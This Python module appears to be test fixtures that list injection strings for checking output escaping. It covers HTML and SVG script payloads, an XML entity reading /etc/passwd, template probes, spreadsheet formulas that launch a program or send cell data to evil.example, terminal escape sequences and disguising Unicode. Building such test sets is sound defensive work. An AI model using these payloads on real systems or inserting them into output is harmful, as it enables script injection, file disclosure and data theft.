"""Texts that try to become more than text: markup, addresses, templates, formulas, and what steers a terminal.

Each is named in a few words. ``HALVES`` cannot stand in a table, for no encoding holds them; all others can.
"""

from __future__ import annotations

MARKUP: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script ended and begun again": "</script><script>alert(1)</script>",
    "script in odd letters": "<ScRiPt/x=1\t>alert(1)</sCrIpT\n>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "attribute in quotes ended": '"><img src=x onerror=alert(1)>',
    "attribute in apostrophes ended": "'><img src=x onerror=alert(1)>",
    "handler added in quotes": '" autofocus onfocus="alert(1)',
    "handler added in apostrophes": "' onclick='alert(1)",
    "handler added without quotes": "x onmouseover=alert(1) y=",
    "style added": '" style="background:url(https://evil.example/a)',
    "comment begun": "<!-- x",
    "comment ended": "--><img src=x onerror=alert(1)>",
    "comment within a script": "<!--<script>",
    "CDATA": "]]><![CDATA[<script>alert(1)</script>]]>",
    "XML with an entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "elements of raw text ended": "</title></style></textarea></noscript></xmp><b>x",
    "cells and table ended": "</bdi></td></tr></tbody></table><h1>x</h1>",
    "list ended": "</li></ul></section></main><footer>x",
    "drawing ended": "</text></title></desc></g></svg><script>alert(1)</script>",
    "drawing with a handler": "<svg/onload=alert(1)>",
    "drawing with an animated address": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "drawing that uses another": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "drawing with foreign elements": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "MathML with an address": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "MathML that changes when read twice": '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "frame with a page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "objects": "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "base of addresses": "<base href=https://evil.example/>",
    "forwarding": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "style sheet": "<link rel=stylesheet href=https://evil.example/a.css><style>@import url(//evil.example/a)</style>",
    "form": "<form action=https://evil.example/><input name=x><button formaction=javascript:alert(1)>x</button></form>",
    "details that open": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "template with a shadow": "<template shadowrootmode=open><style>*{display:none}</style></template>",
    "rest as plain text": "<plaintext>",
    "tag without an end": '<a href="https://evil.example/',
    "NUL within a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "brackets of full width": "＜script＞alert(1)＜/script＞",
}

ENTITIES: dict[str, str] = {
    "entities by name": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities by number": "&#60;img src=x onerror=alert(1)&#62;",
    "entities without an end": "&#x3Cscript&#x3Ealert(1)",
    "entities twice": "&amp;lt;script&amp;gt;",
    "entities of Markdown": "&lbrack;x&rbrack;(javascript&colon;alert(1))",
    "per cent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "escapes of JSON": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "JSON ended": '"}],"x":[{"__proto__":{"x":1}}]}',
}

ADDRESSES: dict[str, str] = {
    "address of a script": "javascript:alert(1)",
    "address of a script in odd letters": " JaVaScRiPt:alert(1)",
    "address of a script with a tab": "java\tscript:alert(1)",
    "address of a script with entities": "&#106;avascript&colon;alert(1)",
    "address of a script behind a control": "\x01javascript:alert(1)",
    "old script": "vbscript:msgbox(1)",
    "data as a page": "data:text/html,<script>alert(1)</script>",
    "data as a drawing": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file": "file:///etc/passwd",
    "address without a scheme": "//evil.example/a",
    "address with a false host": "https://bank.example@evil.example/a",
    "address with quotes": 'https://evil.example/"onmouseover="alert(1)',
    "address with brackets": "https://evil.example/)>[x](javascript:alert(1))",
    "address with a bar": "https://evil.example/|x|`y`",
    "address in brackets": "<javascript:alert(1)>",
    "address that is none": "http://[::1",
}

MARKDOWN: dict[str, str] = {
    "link": "[x](javascript:alert(1))",
    "link in angle brackets": "[x](<data:text/html,x>)",
    "link by reference": "[x][y] \n\n[y]: javascript:alert(1)\n",
    "image": "![x](https://evil.example/pixel.png)",
    "link ended": "](javascript:alert(1))[x",
    "code": "`x",
    "fenced code": "\n```\nx\n",
    "fence of tildes": "\n~~~\nx\n",
    "heading": "\n# x\n",
    "heading underlined": "x\n===\ny\n---\n",
    "rule": "\n***\n",
    "bar": "a|b|c",
    "bar that is escaped": "a\\|b\\\\|c",
    "rows of a table": "x |\n|---|---|\n| a | b",
    "list": "- x\n- y",
    "numbered list": "1. x\n2) y",
    "quotation": "> x",
    "emphasis": "**x** __y__ *z* ~~a~~",
    "emphasis without an end": "**x _y ~~z",
    "footnote": "x[^1]\n\n[^1]: y",
    "block of HTML": "\n\n<div onclick=alert(1)>\n\n*x*\n\n</div>",
    "backslash at the end": "x\\",
    "indented code": "\n\n    x\n\ty\n",
    "head of a file": "---\ntitle: x\n---\n",
}

TEMPLATES: dict[str, str] = {
    "Jinja": "{{7*7}}{{ config }}",
    "Jinja that includes": "{% include '/etc/passwd' %}{% raw %}",
    "Jinja comment": "{# x",
    "other templates": "${7*7}#{7*7}<%= 7*7 %>",
    "formats": "%s%n%x{0.__class__}{}",
    "groups of an expression": "\\1\\g<0>$1$&",
    "formula in dollars": "$\\href{javascript:alert(1)}{x}$",
    "formula in two dollars": "$$\\frac{1}{2}$$",
    "formula in brackets": "\\(x^2\\) \\[y\\]",
    "formula as a block": "\\begin{equation}x\\end{equation}",
}

FORMULAS: dict[str, str] = {
    "formula": "=1+1",
    "formula with a link": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula that runs a program": "=cmd|' /C calc'!A0",
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula with a minus": "-1+1",
    "formula with an at": "@SUM(A1:A9)",
    "formula behind a tab": "\t=2+2",
    "formula behind a break": "\r=3+3",
    "formula of full width": "＝4+4",
    "formula behind an apostrophe": "'=5+5",
    "cell ended": '","=1+1","',
}

STEERING: dict[str, str] = {
    "colour": "\x1b[31mx\x1b[0m",
    "screen cleared": "\x1b[2J\x1b[Hx",
    "line above rewritten": "\x1b[1A\x1b[2Kx",
    "title of the window": "\x1b]0;x\x07",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZWNobyB4\x07",
    "device asked": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "C1: colour": "\x9b31mx",
    "C1: title": "\x9d0;x\x9c",
    "bell": "x\x07",
    "backspaces": "18\x08\x0899",
    "carriage return": "18 killed\r99 killed",
    "line of its own": "x\nfull toll  0",
    "vertical tab and form feed": "x\x0bfull toll  0\x0cy",
    "breaks of Unicode": "x\x85full toll  0\u2028y\u2029z",
    "NUL": "x\x00y",
    "delete and shift": "x\x7f\x0ey\x0f",
    "separators of ASCII": "x\x1cy\x1dz\x1e\x1f",
}

UNSEEN: dict[str, str] = {
    "override to the left": "x\u202egpj.exe",
    "override to the right, embedding, end": "\u202dx\u202by\u202az\u202c",
    "isolates": "\u2066x\u2067y\u2068z\u2069",
    "marks of direction": "x\u200ey\u200fz\u061c",
    "space without width": "Id\u200blib",
    "joiners between Latin letters": "Id\u200dl\u200cib",
    "joiners at both ends": "\u200d\u200cx\u200d",
    "word joiner and byte order mark": "\ufeffId\u2060lib",
    "soft hyphen": "Id\u00adlib",
    "operators that are not seen": "x\u2061y\u2062z\u2063\u2064",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "fillers of Hangul": "x\u3164y\u115f\u1160z\uffa0",
    "annotation": "\ufff9x\ufffay\ufffb",
    "old format controls": "x\u206a\u206b\u206c\u206d\u206e\u206f",
    "private use and no character": "x\ue000y\uffff\U0010ffff",
    "marks piled up": "x" + "\u0316" * 50 + "\u0301" * 50,
}

HALVES: dict[str, str] = {
    "half of a character, first": "x\ud83dy",
    "half of a character, second": "x\ude00y",
    "halves in the wrong order": "x\ude00\ud83dy",
}

#: All that a table can hold.
PAYLOADS: dict[str, str] = MARKUP | ENTITIES | ADDRESSES | MARKDOWN | TEMPLATES | FORMULAS | STEERING | UNSEEN
